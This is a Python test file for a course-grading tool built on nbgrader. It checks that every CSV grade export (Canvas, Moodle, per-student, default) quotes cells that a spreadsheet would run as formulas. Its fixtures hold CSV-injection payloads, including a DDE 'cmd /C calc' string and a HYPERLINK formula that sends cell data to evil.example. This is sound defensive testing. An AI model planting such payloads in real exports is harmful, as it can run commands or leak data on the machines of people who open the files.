"""No grade export holds a cell that a spreadsheet would run as a formula (CSV injection).

A real course (``ex05_updates`` released, graded and exported with the real nbgrader)
whose gradebook holds students with hostile ids, names, emails and LMS ids, and a
hostile Canvas section and column name: every exporter of the course
(``bpgrade.lms``'s Canvas, Moodle and per-student CSVs, and ``grades.csv``, the
course's default) is run with ``nbgrader export``, each file is read back with the
:mod:`csv` module, and every text cell must be the value with a single quote in front
(when it starts with a formula character) or the value itself (otherwise), while every
score is still a number equal to the gradebook's.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import nbformat
import pytest

from bpgrade.course import make_course, tools_on_path
from bpgrade.lms import FORMULA_START, spreadsheet_text
from tools import samples

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
A = "ex05_updates"
CALC = "+cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
STUDENTS = {  # id: (first, last, email, lms id); ids are folder names, so no '/'
    "=1+1": ("Ada", LINK, "ada@example.edu", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "-2+3": (CALC, "O'Brien, Jr.", "=2+5+cmd@example.edu", "1002"),
    "@SUM(A1)": ("\t=1+1", "\r=1+1", " =HYPERLINK(A1)", "-1+1"),
    "alice": ("张三", "Lovelace, Ada", "alice@example.edu", "1004"),  # honest: unchanged
}
CORRECT = {"=1+1", "alice"}  # these hand in the correct notebook; "-2+3" the blank one
SECTION = "-1+2"
COLUMN = "=ex05 (1)"
EXPORTS = {  # file -> exporter
    "canvas.csv": "bpgrade.lms.CanvasExportPlugin",
    "moodle.csv": "bpgrade.lms.MoodleExportPlugin",
    "moodle_id.csv": "bpgrade.lms.MoodleExportPlugin",
    "per_student.csv": "bpgrade.lms.PerStudentExportPlugin",
    "grades.csv": None,  # `nbgrader export` with the course's default exporter
}


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("export_injection"), [A], ROOT)
    root = course.root
    course.nbgrader("release", "generate_assignment", A, "--force")
    from nbgrader.api import Gradebook

    with tools_on_path(), Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for sid, (first, last, email, lms_id) in STUDENTS.items():
            gb.update_or_create_student(sid, first_name=first, last_name=last, email=email,
                                        lms_user_id=lms_id)
    source = nbformat.read(root / "solutions" / A / f"{A}.ipynb", 4)
    release = nbformat.read(root / "exercises" / A / f"{A}.ipynb", 4)
    for sid in ["=1+1", "-2+3", "alice"]:
        folder = root / "submitted" / sid / A
        shutil.copytree(root / "exercises" / A, folder)
        nb = samples.correct_notebook(source, release) if sid in CORRECT else release
        nbformat.write(nb, folder / f"{A}.ipynb")
        (folder / "timestamp.txt").write_text(samples.TIMESTAMP)
    course.nbgrader("autograde", "autograde", A, "--force")
    options = {"canvas.csv": [f"--CanvasExportPlugin.section={SECTION}",
                              f'--CanvasExportPlugin.column_names={{"{A}": "{COLUMN}"}}'],
               "moodle_id.csv": ["--MoodleExportPlugin.identifier=id"]}
    for name, exporter in EXPORTS.items():
        chosen = [f"--exporter={exporter}"] if exporter else []
        course.nbgrader(f"export {name}", "export", *chosen, "--to", name,
                        *options.get(name, []))
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        scores = {s: gb.find_submission(A, s).score for s in ["=1+1", "-2+3", "alice"]}
        max_score = gb.find_assignment(A).max_score
    assert scores["=1+1"] == scores["alice"] == max_score > 0 and scores["-2+3"] == 0
    return root, scores, max_score


def read(root: Path, name: str) -> list[list[str]]:
    with open(root / name, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def hostile_values() -> set[str]:
    values = {SECTION, COLUMN}
    for sid, fields in STUDENTS.items():
        values |= {sid, *fields}
    return {v for v in values if v.lstrip(" ")[:1] in FORMULA_START}


def test_spreadsheet_text_quotes_formula_starts_only():
    for value in ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "\0=1", "  =1",
                  "\uff1d1+1", CALC, LINK]:
        assert spreadsheet_text(value) == "'" + value, value
    for value in ["alice", "O'Brien, Jr.", "张三", "1001", "", "a=b", "x-1", "'=1"]:
        assert spreadsheet_text(value) == value, value


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_text_cell_of_any_export_starts_a_formula(course, name):
    root = course[0]
    rows = read(root, name)
    cells = [c for row in rows for c in row]
    starts = [c for c in cells if c.lstrip(" ")[:1] in FORMULA_START]
    assert not starts, f"{name}: cells a spreadsheet would evaluate: {starts}"
    # every hostile value the file holds is there, quoted; none is lost or cut
    text = "\n".join(cells)
    present = [v for v in hostile_values() if "'" + v in cells]
    assert present, f"{name} holds none of the hostile values: {rows}"
    for v in present:
        assert v not in cells, f"{name}: {v!r} unquoted"
    assert "张三" in text or name.startswith("moodle")


def test_canvas_export_quotes_names_ids_lms_ids_section_and_column(course):
    root, scores, max_score = course
    rows = read(root, "canvas.csv")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                       "'" + COLUMN]
    by_id = {r[2]: r for r in rows[2:]}
    q = spreadsheet_text
    for sid, (first, last, email, lms_id) in STUDENTS.items():
        row = by_id[q(sid)]
        assert row[:5] == [q(f"{last}, {first}"), q(lms_id), q(sid), q(email), q(SECTION)]
    # numbers stay numbers: the scores, unquoted
    assert float(by_id["'=1+1"][5]) == max_score and by_id["'-2+3"][5] == "0"
    assert by_id["'@SUM(A1)"][5] == "0"  # never submitted
    assert rows[1][5] == f"{max_score:g}"


def test_moodle_exports_quote_the_identifier_column(course):
    root, _, max_score = course
    q = spreadsheet_text
    by_email = {r[0]: r for r in read(root, "moodle.csv")[1:]}
    assert set(by_email) == {q(f[2]) for f in STUDENTS.values()}
    assert float(by_email["ada@example.edu"][1]) == max_score
    by_id = {r[0]: r for r in read(root, "moodle_id.csv")[1:]}
    assert set(by_id) == {q(s) for s in STUDENTS}
    assert float(by_id["'=1+1"][1]) == max_score and float(by_id["'-2+3"][1]) == 0


def test_per_student_and_default_exports_keep_scores_numeric(course):
    root, scores, max_score = course
    q = spreadsheet_text
    header, *body = read(root, "per_student.csv")
    cells = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    for sid, (first, last, email, _) in STUDENTS.items():
        r = cells[q(sid)]
        assert (r["last_name"], r["first_name"], r["email"]) == (q(last), q(first), q(email))
        if sid in scores:
            assert float(r["score"]) == scores[sid] and float(r["max_score"]) == max_score
    header, *body = read(root, "grades.csv")
    assert header == ["assignment", "duedate", "timestamp", "student_id", "last_name",
                      "first_name", "email", "raw_score", "late_submission_penalty", "score",
                      "max_score"]
    rows = {r[3]: dict(zip(header, r, strict=True)) for r in body}
    assert set(rows) == {q(s) for s in STUDENTS}
    for sid, (first, last, email, _) in STUDENTS.items():
        r = rows[q(sid)]
        assert (r["last_name"], r["first_name"], r["email"]) == (q(last), q(first), q(email))
        assert float(r["score"]) == scores.get(sid, 0.0), sid
        assert float(r["max_score"]) == max_score
